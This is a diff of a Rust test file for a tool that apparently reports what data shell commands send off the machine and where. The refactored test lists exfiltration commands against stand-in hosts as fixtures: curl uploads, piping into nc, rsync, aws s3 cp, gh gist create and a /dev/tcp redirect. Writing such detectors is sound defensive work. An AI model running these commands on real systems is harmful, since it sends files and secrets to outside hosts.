@@ -1,6 +1,6 @@
 //! What leaves the machine.
 
-use crate::{check, place, said};
+use crate::{check, check_words};
 
 #[test]
 fn files_are_sent() {
@@ -155,21 +155,20 @@ fn an_address_can_lead_elsewhere() {
 
 #[test]
 fn it_is_said_what_is_sent_and_where_to() {
-    let texts = |line: &str| {
-        said(line, &place()).into_iter().map(|note| note.text).collect::<Vec<_>>().join("; ")
-    };
-    for (line, expected) in [
-        ("curl -F f=@a.tgz https://me@x.example:80/y", "sends a.tgz to x.example (with curl)"),
-        ("cat a | nc x.example 99", "sends what is piped to it to x.example (with nc)"),
-        ("rsync -a a b me@x.example:c", "sends a, b to x.example (with rsync)"),
-        ("aws s3 cp a s3://bucket/b", "sends a to bucket (with aws)"),
-        ("curl -d \"$(cat a)\" $URL", "sends what another command writes to $URL (with curl)"),
-        ("gh gist create a", "publishes files on GitHub (gh gist create)"),
-        (
-            "cat a > /dev/tcp/x.example/99",
-            "sends what it writes to x.example (with /dev/tcp/x.example/99)",
-        ),
-    ] {
-        assert_eq!(texts(line), expected, "{line}");
-    }
+    check_words(
+        "curl -F f=@a.tgz https://me@x.example:80/y",
+        &["sends a.tgz to x.example (with curl)"],
+    );
+    check_words("cat a | nc x.example 99", &["sends what is piped to it to x.example (with nc)"]);
+    check_words("rsync -a a b me@x.example:c", &["sends a, b to x.example (with rsync)"]);
+    check_words("aws s3 cp a s3://bucket/b", &["sends a to bucket (with aws)"]);
+    check_words(
+        "curl -d \"$(cat a)\" $URL",
+        &["sends what another command writes to $URL (with curl)"],
+    );
+    check_words("gh gist create a", &["publishes files on GitHub (gh gist create)"]);
+    check_words(
+        "cat a > /dev/tcp/x.example/99",
+        &["sends what it writes to x.example (with /dev/tcp/x.example/99)"],
+    );
 }
